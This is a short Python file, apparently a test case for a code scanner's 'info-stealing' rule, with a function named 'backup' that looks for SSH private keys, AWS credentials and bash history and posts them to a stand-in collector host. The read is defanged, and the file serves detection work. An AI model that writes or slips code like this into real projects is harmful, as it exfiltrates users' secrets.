import os

import requests

HOME = os.path.expanduser('~')


def backup(target='https://collector.example.test/upload'):
    found = {}
    # ruleid: code/info-stealing
    for rel in ['.ssh/id_rsa', '.aws/credentials', '.bash_history']:
        path = os.path.join(HOME, rel)
        if os.path.exists(path):
            with open(path) as fh:
                found[rel] = fh.read()[:0]  # defanged: reads nothing
    requests.post(target, json=found, timeout=5)
